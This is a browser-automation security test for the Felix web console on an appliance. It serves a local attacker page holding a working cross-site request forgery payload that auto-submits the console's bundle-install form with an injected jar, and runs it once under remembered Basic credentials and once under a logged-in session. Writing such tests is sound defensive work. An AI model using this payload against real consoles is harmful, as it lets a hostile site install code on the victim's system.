// The Felix web console under attack from another site, and in use by the admin, in Debian's
// headless Chromium. Run by ConsoleSecurityIT with:
//   NIGHTJAR_URL, NIGHTJAR_PASSWORD (the admin's password, no longer the generated one), NIGHTJAR_CERT (device certificate, PEM),
//   EVIL_JAR (a bundle the attacker wants installed), OWN_JAR (a bundle the admin installs), SCREENSHOTS.
// A page on another origin (a server on 127.0.0.1 started here) posts the console's install form
// with EVIL_JAR, once while the browser holds the admin's HTTP Basic credentials for the appliance,
// once while it holds the admin's session. Then the admin installs OWN_JAR through the console's own
// dialog. Prints one line "RESULT {json}" and exits 0 when every step ran; the Java test judges the outcome.
import { capture, launch, login, runSteps } from './browser.mjs';
import { createServer } from 'node:http';
import { readFileSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';

const base = process.env.NIGHTJAR_URL;
const out = process.env.SCREENSHOTS;
mkdirSync(out, { recursive: true });
const result = { steps: [], cspViolations: [] };
const step = name => { result.steps.push(name); console.log('step: ' + name); };

// The attacker's page: the console's install form, the jar put into its file field, submitted at once.
const evilJar = readFileSync(process.env.EVIL_JAR);
const evilPage = `<!doctype html><html><body>
<form id="f" method="post" enctype="multipart/form-data" action="${base}/system/console/bundles">
<input name="action" value="install"><input name="bundlestart" value="start">
<input name="bundlestartlevel" value="20"><input type="file" name="bundlefile"></form>
<script>
fetch('/evil.jar').then(r => r.arrayBuffer()).then(bytes => {
  const files = new DataTransfer();
  files.items.add(new File([bytes], 'evil.jar', { type: 'application/java-archive' }));
  document.querySelector('input[type=file]').files = files.files;
  document.getElementById('f').submit();
});
</script></body></html>`;
const attacker = createServer((request, response) => {
  if (request.url === '/evil.jar') {
    response.writeHead(200, { 'Content-Type': 'application/java-archive' }).end(evilJar);
  } else {
    response.writeHead(200, { 'Content-Type': 'text/html' }).end(evilPage);
  }
});
await new Promise(resolve => attacker.listen(0, '127.0.0.1', resolve));
const evil = 'http://127.0.0.1:' + attacker.address().port + '/';

/** Opens the attacker's page; returns the status the appliance gave its form post. */
async function attack(page) {
  const posted = page.waitForResponse(r => r.url().startsWith(base) && r.request().method() === 'POST',
    { timeout: 20000 });
  await page.goto(evil);
  const response = await posted;
  await page.waitForLoadState();
  return response.status();
}

const browser = await launch(process.env.NIGHTJAR_CERT);
await runSteps(result, async () => {
  // The browser answers the appliance's Basic challenge with the admin's credentials, as one does
  // that has opened https://admin:...@host:8443/ or answered the browser's own password prompt.
  const remembered = await browser.newContext({
    httpCredentials: { username: 'admin', password: process.env.NIGHTJAR_PASSWORD, origin: base } });
  const basicPage = await remembered.newPage();
  result.basicAttackStatus = await attack(basicPage);
  await capture(basicPage, join(out, '20-console-attack-basic.png'));
  step('the attacker posted the install form with the browser holding Basic credentials: ' + result.basicAttackStatus);
  await remembered.close();

  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  const page = await context.newPage();
  page.on('console', m => { if (/Content.Security.Policy/i.test(m.text())) result.cspViolations.push(m.text()); });
  await page.goto(base + '/');
  await login(page, 'admin', process.env.NIGHTJAR_PASSWORD);
  const attacked = await context.newPage();
  result.sessionAttackStatus = await attack(attacked);
  await attacked.close();
  step('the attacker posted the install form while the admin was logged in: ' + result.sessionAttackStatus);

  await page.goto(base + '/system/console/bundles');
  await page.waitForSelector('.installButton');
  await page.waitForSelector('#plugin_table tbody tr');
  await page.screenshot({ path: join(out, '21-console-bundles.png') });
  await page.click('.installButton');
  await page.setInputFiles('input.multi[name=bundlefile]', process.env.OWN_JAR);
  const installed = page.waitForResponse(r => r.url().startsWith(base + '/system/console/bundles')
    && r.request().method() === 'POST', { timeout: 20000 });
  await page.click('button:has-text("Install or Update")');
  result.ownInstallStatus = (await installed).status();
  step('the admin installed a bundle through the console: ' + result.ownInstallStatus);
  await page.goto(base + '/system/console/configMgr');
  await page.waitForSelector('#configTable tbody tr, table.tablesorter tbody tr', { timeout: 20000 });
  await page.screenshot({ path: join(out, '22-console-configuration.png') });
  step('the configuration page');
}, async () => {
  await browser.close();
  attacker.close();
});
